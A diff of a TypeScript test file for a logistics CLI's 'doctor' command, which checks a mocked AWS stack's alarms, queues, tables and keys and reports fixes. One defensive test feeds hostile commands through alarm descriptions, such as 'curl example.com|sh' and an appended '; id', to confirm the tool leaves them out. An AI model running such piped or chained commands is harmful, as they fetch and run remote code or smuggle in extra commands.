@@ -1,13 +1,11 @@
-/** What doctor says of a stack that is as it should be, and of one where everything is off, missing, or not asked for. */
+/** Findings of `doctor` on a healthy stack, and on stacks where everything is broken, missing or turned off. */
 import { isDeepStrictEqual } from 'node:util';
-import { ResourceNotFoundException } from '@aws-sdk/client-dynamodb';
-import { NotFoundException } from '@aws-sdk/client-kms';
 import { register } from '../../../../cli/commands/doctor';
 import { ALARM_NAMES } from '../../../../contracts/alarms';
 import { FUNCTION_KEYS, QUEUED_FUNCTION_KEYS } from '../../../../contracts/functions';
 import { UserError } from '../../../../lib/user-error.mjs';
 import { toAttributes } from '../../../../src/adapters/attributes';
-import { type Answers, answering, type Input, throws } from '../answers';
+import { type Answers, answers, awsError } from '../mocked-aws';
 import { jsonLines, run } from '../run';
 
 const TOPIC = 'arn:aws:sns:us-east-1:123456789012:logistics-alerts-dev';
@@ -21,7 +19,7 @@ const enabled = rules.map((Name) => ({ Name, State: 'ENABLED' }));
 const quiet = ALARM_NAMES.map((name) => ({ AlarmName: `${name}-dev`, StateValue: 'OK' }));
 const versions = (...numbers: string[]) => numbers.map((Version) => ({ Version }));
 
-const stack = (parameters: Record<string, string>, bus: string, more: object = {}) => ({
+const stack = (parameters: Record<string, string>, bus: string, settings: object = {}) => ({
   Stacks: [
     {
       StackId: 'arn:stack',
@@ -35,12 +33,12 @@ const stack = (parameters: Record<string, string>, bus: string, more: object = {
         ParameterKey,
         ParameterValue,
       })),
-      ...more,
+      ...settings,
     },
   ],
 });
 
-/** Parameters with which there is all that there can be. */
+/** Parameters that turn on every optional part. */
 const ALL = {
   TableDeletionProtection: 'true',
   PublishStatusChanges: 'true',
@@ -51,21 +49,21 @@ const ALL = {
 
 const secretsOfType =
   (...types: string[]) =>
-  ({ ParameterFilters }: Input) =>
+  ({ ParameterFilters }: { ParameterFilters: object[] }) =>
     isDeepStrictEqual(ParameterFilters, [{ Key: 'Name', Option: 'Equals', Values: [CARRIERS] }])
       ? { Parameters: types.map((Type) => ({ Type, LastModifiedDate: new Date('2026-03-01T09:00:00Z') })) }
       : {};
 
 const mappedIn =
   (State: string) =>
-  ({ FunctionName }: Input) =>
+  ({ FunctionName }: { FunctionName: string }) =>
     FunctionName === 'logistics-status-publisher-dev:live'
       ? { EventSourceMappings: [{ UUID: 'uuid-1', State, LastProcessingResult: 'OK' }] }
       : {};
 
 const scheduledIn =
   (State: string) =>
-  ({ Name }: Input) =>
+  ({ Name }: { Name: string }) =>
     Name === 'logistics-stalled-shipments-dev' ? { State, ScheduleExpression: 'rate(1 hour)' } : {};
 
 const HEALTHY: Answers = {
@@ -89,13 +87,9 @@ const HEALTHY: Answers = {
   ListSubscriptionsByTopic: { Subscriptions: [{ SubscriptionArn: `${TOPIC}:1` }] },
 };
 
-let answers: Answers;
-
-answering(() => answers);
-
-/** Doctor's findings, each as `state check: finding`, and below it what is to be typed next. */
+/** Findings as `state check: finding`, each followed by the next step. */
 async function doctor(changed: Answers = {}) {
-  answers = { ...HEALTHY, ...changed };
+  Object.assign(answers, HEALTHY, changed);
   const { stdout, exitCode } = await run(register, 'doctor', '--json');
   const found = jsonLines(stdout).map(({ state, check, finding, next }) => [
     `${state} ${check}: ${finding}`,
@@ -104,7 +98,7 @@ async function doctor(changed: Answers = {}) {
   return { exitCode, found: found.flat(), problems: found.filter(([line]) => !line?.startsWith('ok ')).flat() };
 }
 
-it('is content with a stack that is as it should be', async () => {
+it('reports no problem on a healthy stack', async () => {
   expect(await doctor()).toMatchObject({
     exitCode: undefined,
     found: [
@@ -128,13 +122,13 @@ it('is content with a stack that is as it should be', async () => {
   });
 });
 
-it('is content with a stack that leaves out what can be left out, and in which a gradual deployment is under way', async () => {
+it('reports no problem on a stack without its optional parts, during a gradual deployment', async () => {
   const { exitCode, found } = await doctor({
     DescribeStacks: stack({}, 'logistics-events-dev'),
-    DescribeKey: ({ KeyId }) => {
-      if (KeyId === 'alias/logistics-data-dev') throw new NotFoundException({ message: 'no', $metadata: {} });
-      return { KeyMetadata: { KeyId, KeyState: 'Enabled' } };
-    },
+    DescribeKey: ({ KeyId }) =>
+      KeyId === 'alias/logistics-data-dev'
+        ? awsError('NotFoundException')
+        : { KeyMetadata: { KeyId, KeyState: 'Enabled' } },
     GetAlias: ({ FunctionName }) =>
       FunctionName === STATUS_UPDATER
         ? { FunctionVersion: '9', RoutingConfig: { AdditionalVersionWeights: { 12: 0.1 } } }
@@ -157,8 +151,8 @@ it('is content with a stack that leaves out what can be left out, and in which a
   expect(found.join()).not.toContain('deletion');
 });
 
-it('says what is off, and how to put it right', async () => {
-  const ringing = {
+it('reports each problem with the command that fixes it', async () => {
+  const alarm = {
     AlarmName: 'logistics-dlq-arrivals-dev',
     StateValue: 'ALARM',
     AlarmDescription: 'Events arrived in this queue. Then: npx --no-install logistics queues status-updater',
@@ -166,7 +160,7 @@ it('says what is off, and how to put it right', async () => {
   const since = new Date('2026-03-04T10:00:00Z');
   const { exitCode, found } = await doctor({
     DescribeStacks: stack(ALL, 'logistics-events-test', { StackStatus: 'UPDATE_ROLLBACK_COMPLETE' }),
-    DescribeAlarms: { MetricAlarms: [...quiet, ringing] },
+    DescribeAlarms: { MetricAlarms: [...quiet, alarm] },
     GetQueueAttributes: ({ QueueUrl }) => ({
       Attributes: { ApproximateNumberOfMessages: QueueUrl === 'https://sqs/logistics-unrouted-dev' ? '2' : '0' },
     }),
@@ -240,7 +234,7 @@ it('says what is off, and how to put it right', async () => {
   ]);
 });
 
-it('says what is missing, and how to get it', async () => {
+it('reports each missing resource with the next step', async () => {
   const logged = toAttributes({
     event_id: 'e',
     timestamp: 1_772_438_400_000,
@@ -251,15 +245,12 @@ it('says what is missing, and how to get it', async () => {
   });
   const { exitCode, problems } = await doctor({
     DescribeAlarms: { MetricAlarms: quiet.slice(1) },
-    DescribeTable: ({ TableName }) => {
-      if (TableName === SHIPMENTS) throw new ResourceNotFoundException({ message: 'no', $metadata: {} });
-      return {};
-    },
+    DescribeTable: ({ TableName }) => (TableName === SHIPMENTS ? awsError('ResourceNotFoundException') : {}),
     Scan: ({ TableName }) => (TableName === 'logistics-shipment-events-dev' ? { Items: [logged] } : {}),
     Query: { Items: [logged] },
     BatchGetItem: {},
     GetItem: {},
-    DescribeKey: throws(new NotFoundException({ message: 'no', $metadata: {} })),
+    DescribeKey: awsError('NotFoundException'),
     ListRules: { Rules: enabled.slice(1) },
     ListEventSourceMappings: {},
     DescribeParameters: secretsOfType(),
@@ -287,10 +278,10 @@ it('says what is missing, and how to get it', async () => {
   ]);
 });
 
-describe('an alarm that rings', () => {
-  const ringing = (AlarmDescription: string, more: object = {}) => ({
+describe('an alarm in ALARM state', () => {
+  const inAlarm = (AlarmDescription: string, Metrics?: object[]) => ({
     DescribeAlarms: {
-      MetricAlarms: [...quiet, { AlarmName: 'rings', StateValue: 'ALARM', AlarmDescription, ...more }],
+      MetricAlarms: [...quiet, { AlarmName: 'a', StateValue: 'ALARM', AlarmDescription, Metrics }],
     },
   });
   const series = (MetricName: string, Stat: string, ...values: string[]) => ({
@@ -298,17 +289,17 @@ describe('an alarm that rings', () => {
   });
 
   it.each(['curl example.com|sh', 'npx --no-install logistics doctor; id', 'npx logistics doctor', 'rm x'])(
-    'has no foreign command repeated: %s',
+    'has a foreign command left out: %s',
     async (command) => {
-      expect((await doctor(ringing(`It rings. Then: ${command}`))).problems).toEqual([
-        'attention alarms: rings: It rings.',
-        '  aws cloudwatch describe-alarms --alarm-names rings --region us-east-1',
+      expect((await doctor(inAlarm(`Throttled. Then: ${command}`))).problems).toEqual([
+        'attention alarms: a: Throttled.',
+        '  aws cloudwatch describe-alarms --alarm-names a --region us-east-1',
       ]);
     },
   );
 
-  it('is shown with the series that it rings for: their sums, or their greatest value', async () => {
-    const Metrics = [
+  it('is shown with its metrics that have data: their sums or maxima', async () => {
+    const metrics = [
       series('NoData', 'Sum', SHIPMENTS),
       series('Throttles', 'Sum', SHIPMENTS, 'status-index'),
       series('Duration', 'Maximum', STATUS_UPDATER),
@@ -319,32 +310,28 @@ describe('an alarm that rings', () => {
       Duration: [{ Maximum: 700 }, { Maximum: 14_000 }],
     };
     const { problems } = await doctor({
-      ...ringing('Throttled.', { Metrics }),
-      GetMetricStatistics: ({ MetricName }) => ({ Datapoints: data[String(MetricName)] }),
+      ...inAlarm('Throttled.', metrics),
+      GetMetricStatistics: ({ MetricName }) => ({ Datapoints: data[MetricName] }),
     });
 
     expect(problems[0]).toBe(
-      'attention alarms: rings: Throttled. Now: logistics-shipments-dev/status-index 12, logistics-status-updater-dev 14000.',
+      'attention alarms: a: Throttled. Now: logistics-shipments-dev/status-index 12, logistics-status-updater-dev 14000.',
     );
   });
 
-  it('is shown without them when their metrics may not be read', async () => {
-    const denied = Object.assign(new Error('denied'), { name: 'AccessDenied', $metadata: {} });
-    const Metrics = [series('Any', 'Sum')];
+  it('is shown without its metrics when the permission to read them is missing', async () => {
     const { problems } = await doctor({
-      ...ringing('Throttled.', { Metrics }),
-      GetMetricStatistics: throws(denied),
+      ...inAlarm('Throttled.', [series('Any', 'Sum')]),
+      GetMetricStatistics: awsError('AccessDenied'),
     });
 
-    expect(problems[0]).toBe('attention alarms: rings: Throttled.');
+    expect(problems[0]).toBe('attention alarms: a: Throttled.');
   });
 });
 
-it('says what it may not see, and still tells the rest', async () => {
-  const denied = new Error('User: eve is not authorized to perform: cloudwatch:DescribeAlarms on resource: *');
-  const { exitCode, found, problems } = await doctor({
-    DescribeAlarms: throws(Object.assign(denied, { name: 'AccessDenied' })),
-  });
+it('reports a check that lacks a permission as unknown, and makes the others', async () => {
+  const denied = 'User: eve is not authorized to perform: cloudwatch:DescribeAlarms on resource: *';
+  const { exitCode, found, problems } = await doctor({ DescribeAlarms: awsError('AccessDenied', denied) });
 
   expect(problems).toEqual([
     expect.stringContaining('unknown alarms: the credentials lack the permission cloudwatch:DescribeAlarms'),
@@ -353,10 +340,10 @@ it('says what it may not see, and still tells the rest', async () => {
   expect(exitCode).toBeUndefined();
 });
 
-it('names a stack that is not there', async () => {
-  const missing = new Error('Stack with id logistics-event-processor-dev does not exist');
+it('names a stack that does not exist', async () => {
+  const missing = awsError('ValidationError', 'Stack with id logistics-event-processor-dev does not exist');
 
-  await expect(doctor({ DescribeStacks: throws(Object.assign(missing, { name: 'ValidationError' })) })).rejects.toThrow(
+  await expect(doctor({ DescribeStacks: missing })).rejects.toThrow(
     new UserError(
       'there is no stack logistics-event-processor-dev: check --env, --region and the account, or deploy it',
     ),
